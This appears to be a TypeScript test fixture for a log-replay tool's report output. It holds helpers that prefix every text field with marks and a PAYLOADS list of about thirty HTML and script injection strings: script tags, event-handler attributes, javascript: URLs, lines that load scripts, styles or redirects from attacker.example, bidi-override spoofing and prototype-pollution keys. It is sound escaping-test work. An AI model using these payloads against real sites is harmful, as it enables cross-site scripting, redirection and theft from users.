import type { ReplayResult } from "../../cli/replay/result/replay-result";

/** Fields whose texts are ours: a program chooses among them. */
const OURS = new Set(["severity", "tier", "outcome"]);

/** The same value, every text of it rewritten that a log, a path or a configuration could bring. */
export function withTexts<Value>(value: Value, rewrite: (text: string, field: string) => string): Value {
  return rewritten(value, rewrite, "") as Value;
}

function rewritten(value: unknown, rewrite: (text: string, field: string) => string, field: string): unknown {
  if (typeof value === "string") return OURS.has(field) ? value : rewrite(value, field);
  if (Array.isArray(value)) return value.map((item) => rewritten(item, rewrite, field));
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, rewritten(item, rewrite, key)]));
}

/**
 * A result of which every text of every kind begins once with each of the marks.
 *
 * @param kept fields that stay as they are
 */
export function marked(result: ReplayResult, marks: readonly string[], kept: readonly string[] = []): ReplayResult {
  const each = <Entry>(entries: readonly Entry[], least: number) =>
    Array.from({ length: Math.max(entries.length, least) }, (_, index) =>
      withTexts(entries[index % entries.length] as Entry, (text, field) =>
        kept.includes(field) ? text : marks[index % marks.length] + text,
      ),
    );
  return {
    ...result,
    alerts: each(result.alerts, marks.length),
    detections: each(result.detections, marks.length),
    suppressions: each(result.suppressions, marks.length),
    files: { ...result.files, unreadable: each(result.files.unreadable, marks.length) },
    records: {
      ...result.records,
      processingErrors: marks.length,
      firstProcessingErrors: each(result.records.firstProcessingErrors, marks.length),
    },
  };
}

/** What somebody might write into a user agent's or a role's name to have it run, or to deceive whoever reads it. */
export const PAYLOADS: readonly string[] = [
  "<script>globalThis.injected = 1</script>",
  "</script><script>globalThis.injected = 1</script>",
  "</SCRIPT ><script src=https://attacker.example/x.js></script>",
  "<!--<script>",
  "--><img src=https://attacker.example/pixel.png>",
  "<img src=x onerror=globalThis.injected=1>",
  "<svg onload=globalThis.injected=1>",
  "<iframe srcdoc='<script>parent.injected=1</script>'></iframe>",
  "<style>@import 'https://attacker.example/x.css';</style>",
  "</style><link rel=stylesheet href=https://attacker.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
  "<base href=https://attacker.example/>",
  "<form action=https://attacker.example/><input name=q autofocus onfocus=globalThis.injected=1>",
  "<a href=javascript:globalThis.injected=1>why</a>",
  "javascript:globalThis.injected=1",
  '" onmouseover="globalThis.injected=1" x="',
  "' onfocus='globalThis.injected=1' autofocus='",
  "` onclick=globalThis.injected=1 `",
  "</bdi></code></td></table><h1>All quiet</h1>",
  "</title><script>globalThis.injected = 1</script>",
  "</noscript><script>globalThis.injected = 1</script>",
  "\\u003cscript\\u003eglobalThis.injected=1\\u003c/script\\u003e",
  "&lt;script&gt;globalThis.injected=1&lt;/script&gt;",
  '"}]};globalThis.injected=1;//',
  "\u2028globalThis.injected=1\u2029",
  "${globalThis.injected=1}{{globalThis.injected=1}}",
  "user \u202e)ecila( nimda\u202c",
  "\u2066\u200b\u200d\ufeff\u00ad",
  "\ud800 \udfff \u0000 \u001b[2J",
  "__proto__",
  "constructor",
];
